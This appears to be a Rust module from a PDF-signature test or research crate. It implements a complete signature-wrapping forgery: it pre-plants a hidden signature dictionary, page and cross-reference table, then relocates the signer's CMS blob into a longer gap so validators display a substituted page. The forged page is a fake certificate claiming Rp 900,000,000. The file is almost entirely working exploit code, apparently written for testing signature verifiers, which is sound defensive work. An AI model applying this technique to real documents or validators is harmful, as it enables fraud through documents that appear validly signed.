//! A document prepared before it is signed, so that its signature can be taken to another gap.
//!
//! The digest is over two ranges joined, and does not say where the first ends. The document carries
//! a second signature dictionary, a second page and a second cross-reference table in a stream that
//! nothing refers to. The forger takes the CMS object out of the signer's gap and puts it into a
//! longer one in that stream: the digested bytes are the same, everything behind it moves, and where
//! `startxref` points the hidden table now stands.

use crate::base;
use crate::surgery::find_signature;
use std::fmt::Write as _;
use std::ops::Range;

const CARGO_LEN: usize = 9000;
/// How much longer the forger's gap is than the signer's.
const LONGER: usize = 5000;

/// What the forger has to know: where things will stand once the document is signed. Any document
/// of this length tells.
struct Foreseen {
    contents: Range<usize>,
    startxref: usize,
    total: usize,
}

/// Prepares the document, has it signed by `sign`, and forges it.
pub(crate) fn forged<E>(sign: impl Fn(Vec<u8>) -> Result<Vec<u8>, E>) -> Result<Vec<u8>, E> {
    let blank = base::document_carrying(&" ".repeat(CARGO_LEN));
    let rehearsal = sign(blank)?;
    let foreseen = Foreseen {
        contents: find_signature(&rehearsal).contents,
        startxref: base::number_after(&rehearsal, b"startxref\n").unwrap_or(0),
        total: rehearsal.len(),
    };
    let (cargo, new_gap) = prepare(&foreseen);
    let signed = sign(base::document_carrying(&cargo))?;
    let part = |range: Range<usize>| signed.get(range).unwrap_or_default();
    let digits = part(foreseen.contents.start + 1..foreseen.contents.end - 1);
    Ok([
        part(0..new_gap),
        b"<",
        digits,
        "0".repeat(LONGER).as_bytes(),
        b">",
        part(new_gap..foreseen.contents.start),
        part(foreseen.contents.end..signed.len()),
    ]
    .concat())
}

/// The cargo, and where in the file its own gap will begin.
fn prepare(foreseen: &Foreseen) -> (String, usize) {
    let marked = base::document_carrying(&" ".repeat(CARGO_LEN));
    let run = " ".repeat(CARGO_LEN);
    let start = marked
        .windows(CARGO_LEN)
        .position(|window| window == run.as_bytes())
        .unwrap_or(0);
    let mut gap = start;
    loop {
        let (cargo, found) = lay_out(foreseen, start, gap);
        if found == gap {
            return (cargo, gap);
        }
        gap = found;
    }
}

/// The cargo for a gap that is thought to begin at `gap`, and where it does begin.
fn lay_out(foreseen: &Foreseen, start: usize, gap: usize) -> (String, usize) {
    let gap_len = foreseen.contents.len() + LONGER;
    let rest = foreseen.total - foreseen.contents.len() - gap;
    let mut cargo = String::from("\n");
    let signature = start + cargo.len();
    let _ = write!(
        cargo,
        "16 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached \
         /M (D:20260302020000Z) /ByteRange [0 {gap} {} {rest}] /Contents ",
        gap + gap_len
    );
    let found = start + cargo.len();
    let mut offsets = vec![(16, signature)];
    // a comment hides from the signer that a value is missing here
    cargo.push_str(" %\n>>\nendobj\n");
    for (number, object) in objects() {
        offsets.push((number, start + cargo.len() + gap_len));
        let _ = write!(cargo, "{number} 0 obj\n{object}\nendobj\n");
    }
    offsets.sort_unstable();
    let mut table = String::from("xref\n0 1\n0000000000 65535 f \n11 7\n");
    for (_, offset) in offsets {
        let _ = writeln!(table, "{offset:010} 00000 n ");
    }
    table.push_str("trailer\n<< /Size 18 /Root 11 0 R >>\n");
    let padding = foreseen.startxref - gap_len - start - cargo.len();
    cargo.push_str(&" ".repeat(padding));
    cargo.push_str(&table);
    cargo.push_str(&" ".repeat(CARGO_LEN - cargo.len()));
    (cargo, found)
}

fn objects() -> [(u32, String); 6] {
    [
        (
            11,
            "<< /Type /Catalog /Pages 12 0 R /AcroForm << /Fields [17 0 R] /SigFlags 3 >> >>"
                .into(),
        ),
        (12, "<< /Type /Pages /Kids [13 0 R] /Count 1 >>".into()),
        (
            13,
            "<< /Type /Page /Parent 12 0 R /MediaBox [0 0 595 842] /Contents 14 0 R \
             /Annots [17 0 R] /Resources << /Font << /F1 15 0 R >> >> >>"
                .into(),
        ),
        (
            14,
            base::stream(
                "",
                "BT /F1 14 Tf 72 760 Td (Surat Keterangan: jumlah Rp 900.000.000) Tj ET",
            ),
        ),
        (
            15,
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".into(),
        ),
        (
            17,
            "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /V 16 0 R /P 13 0 R \
             /Rect [0 0 0 0] /F 132 >>"
                .into(),
        ),
    ]
}
